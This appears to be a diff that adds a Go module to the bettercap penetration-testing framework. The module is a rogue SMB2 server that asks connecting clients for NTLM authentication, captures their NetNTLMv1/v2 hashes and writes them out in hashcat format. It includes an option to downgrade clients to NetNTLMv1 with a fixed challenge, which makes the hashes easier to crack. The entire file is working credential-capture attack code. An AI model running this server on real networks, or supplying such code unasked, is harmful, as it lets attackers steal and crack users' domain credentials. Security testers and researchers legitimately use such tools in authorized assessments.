@@ -0,0 +1,290 @@
+package smb_server
+
+import (
+	"bufio"
+	"crypto/rand"
+	"encoding/hex"
+	"fmt"
+	"net"
+	"os"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	"github.com/bettercap/bettercap/v2/packets"
+	"github.com/bettercap/bettercap/v2/session"
+
+	"github.com/evilsocket/islazy/fs"
+	"github.com/evilsocket/islazy/tui"
+)
+
+const connTimeout = 30 * time.Second
+
+// HashEvent is emitted as smb.server.hash for every NTLM response captured.
+type HashEvent struct {
+	Client      string `json:"client"`
+	Type        string `json:"type"`
+	User        string `json:"user"`
+	Domain      string `json:"domain"`
+	Hash        string `json:"hash"`
+	HashcatMode int    `json:"hashcat_mode"`
+}
+
+type SMBServer struct {
+	session.SessionModule
+	address   *net.TCPAddr
+	listener  *net.TCPListener
+	challenge []byte
+	domain    string
+	computer  string
+	downgrade bool
+	output    string
+	guid      []byte
+	sessionID uint64
+	outLock   *sync.Mutex
+}
+
+func NewSMBServer(s *session.Session) *SMBServer {
+	mod := &SMBServer{
+		SessionModule: session.NewSessionModule("smb.server", s),
+		outLock:       &sync.Mutex{},
+	}
+
+	mod.AddParam(session.NewStringParameter("smb.server.address",
+		session.ParamIfaceAddress,
+		session.IPv4Validator,
+		"Address to bind the SMB server to."))
+
+	mod.AddParam(session.NewIntParameter("smb.server.port",
+		"445",
+		"Port to bind the SMB server to."))
+
+	mod.AddParam(session.NewStringParameter("smb.server.challenge",
+		"",
+		"^([a-fA-F0-9]{16})?$",
+		"NTLM server challenge as 16 hex digits, if empty a random one will be used for each connection."))
+
+	mod.AddParam(session.NewStringParameter("smb.server.domain",
+		"WORKGROUP",
+		"",
+		"NetBIOS domain name of the server."))
+
+	mod.AddParam(session.NewStringParameter("smb.server.computer",
+		"FILESERVER",
+		"",
+		"NetBIOS computer name of the server."))
+
+	mod.AddParam(session.NewBoolParameter("smb.server.downgrade",
+		"false",
+		"If true, extended session security will not be negotiated so that NTLMv1 clients send plain NetNTLMv1 responses (use with a fixed challenge)."))
+
+	mod.AddParam(session.NewStringParameter("smb.server.output",
+		"",
+		"",
+		"If not empty, captured hashes will be appended to this file in hashcat format."))
+
+	mod.AddHandler(session.NewModuleHandler("smb.server on", "",
+		"Start the SMB server.",
+		func(args []string) error {
+			return mod.Start()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("smb.server off", "",
+		"Stop the SMB server.",
+		func(args []string) error {
+			return mod.Stop()
+		}))
+
+	return mod
+}
+
+func (mod *SMBServer) Name() string {
+	return "smb.server"
+}
+
+func (mod *SMBServer) Description() string {
+	return "A rogue SMB2 server that requests NTLM authentication to clients and captures their NetNTLMv1/v2 hashes."
+}
+
+func (mod *SMBServer) Author() string {
+	return "Simone Margaritelli <evilsocket@gmail.com>"
+}
+
+func (mod *SMBServer) Configure() error {
+	var err error
+	var address string
+	var port int
+	var challenge string
+
+	if mod.Running() {
+		return session.ErrAlreadyStarted(mod.Name())
+	} else if err, address = mod.StringParam("smb.server.address"); err != nil {
+		return err
+	} else if err, port = mod.IntParam("smb.server.port"); err != nil {
+		return err
+	} else if err, challenge = mod.StringParam("smb.server.challenge"); err != nil {
+		return err
+	} else if err, mod.domain = mod.StringParam("smb.server.domain"); err != nil {
+		return err
+	} else if err, mod.computer = mod.StringParam("smb.server.computer"); err != nil {
+		return err
+	} else if err, mod.downgrade = mod.BoolParam("smb.server.downgrade"); err != nil {
+		return err
+	} else if err, mod.output = mod.StringParam("smb.server.output"); err != nil {
+		return err
+	}
+
+	mod.challenge = nil
+	if challenge != "" {
+		if mod.challenge, err = hex.DecodeString(challenge); err != nil {
+			return err
+		}
+	}
+
+	if mod.output != "" {
+		if mod.output, err = fs.Expand(mod.output); err != nil {
+			return err
+		}
+	}
+
+	mod.guid = make([]byte, 16)
+	rand.Read(mod.guid)
+
+	if mod.address, err = net.ResolveTCPAddr("tcp", fmt.Sprintf("%s:%d", address, port)); err != nil {
+		return err
+	} else if mod.listener, err = net.ListenTCP("tcp", mod.address); err != nil {
+		return err
+	}
+
+	return nil
+}
+
+func (mod *SMBServer) nextSessionID() uint64 {
+	return atomic.AddUint64(&mod.sessionID, 1)
+}
+
+func (mod *SMBServer) newConn() *smbConn {
+	challenge := mod.challenge
+	if challenge == nil {
+		challenge = make([]byte, 8)
+		rand.Read(challenge)
+	}
+
+	return &smbConn{
+		server:    mod,
+		challenge: challenge,
+	}
+}
+
+func (mod *SMBServer) onHash(client string, creds *packets.NTLMChallengeResponseParsed) {
+	event := HashEvent{
+		Client: client,
+		Type:   "NetNTLMv2",
+		User:   creds.User,
+		Domain: creds.Domain,
+		Hash:   creds.HashcatString(),
+	}
+
+	event.HashcatMode = 5600
+	if creds.Type == packets.NtlmV1 {
+		event.Type = "NetNTLMv1"
+		event.HashcatMode = 5500
+	}
+
+	mod.Info("captured %s hash of %s from %s:\n%s", event.Type, tui.Bold(creds.Domain+"\\"+creds.User), client, event.Hash)
+
+	mod.Session.Events.Add("smb.server.hash", event)
+	mod.Session.Credentials.Add(session.Credential{
+		Protocol:    "smb",
+		Module:      mod.Name(),
+		Client:      client,
+		Host:        mod.address.IP.String(),
+		User:        creds.Domain + "\\" + creds.User,
+		Type:        session.CredentialHash,
+		Secret:      event.Hash,
+		HashcatMode: event.HashcatMode,
+	})
+
+	if mod.output != "" {
+		mod.outLock.Lock()
+		defer mod.outLock.Unlock()
+
+		if fp, err := os.OpenFile(mod.output, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0600); err != nil {
+			mod.Error("error opening %s: %v", mod.output, err)
+		} else {
+			defer fp.Close()
+			if _, err = fmt.Fprintln(fp, event.Hash); err != nil {
+				mod.Error("error writing to %s: %v", mod.output, err)
+			}
+		}
+	}
+}
+
+func (mod *SMBServer) handle(conn *net.TCPConn) {
+	defer conn.Close()
+
+	client := conn.RemoteAddr().(*net.TCPAddr).IP.String()
+	// a malformed message must not take down the whole process
+	defer func() {
+		if err := recover(); err != nil {
+			mod.Error("unexpected error while handling %s: %v", client, err)
+		}
+	}()
+	mod.Debug("connection from %s", client)
+
+	state := mod.newConn()
+	reader := bufio.NewReader(conn)
+	for mod.Running() {
+		conn.SetDeadline(time.Now().Add(connTimeout))
+
+		msg, err := readMessage(reader)
+		if err != nil {
+			mod.Debug("%s: %v", client, err)
+			return
+		}
+
+		reply, creds, err := state.process(msg)
+		if creds != nil {
+			mod.onHash(client, creds)
+		}
+
+		if reply != nil {
+			if _, werr := conn.Write(frameMessage(reply)); werr != nil {
+				mod.Debug("error writing to %s: %v", client, werr)
+				return
+			}
+		}
+
+		if err != nil {
+			mod.Debug("%s: %v", client, err)
+			return
+		}
+	}
+}
+
+func (mod *SMBServer) Start() error {
+	if err := mod.Configure(); err != nil {
+		return err
+	}
+
+	return mod.SetRunning(true, func() {
+		mod.Info("server starting on address %s", mod.address)
+		for mod.Running() {
+			if conn, err := mod.listener.AcceptTCP(); err != nil {
+				if mod.Running() {
+					mod.Warning("error while accepting tcp connection: %s", err)
+				}
+				continue
+			} else {
+				go mod.handle(conn)
+			}
+		}
+	})
+}
+
+func (mod *SMBServer) Stop() error {
+	return mod.SetRunning(false, func() {
+		// pending connections will time out on their own
+		mod.listener.Close()
+	})
+}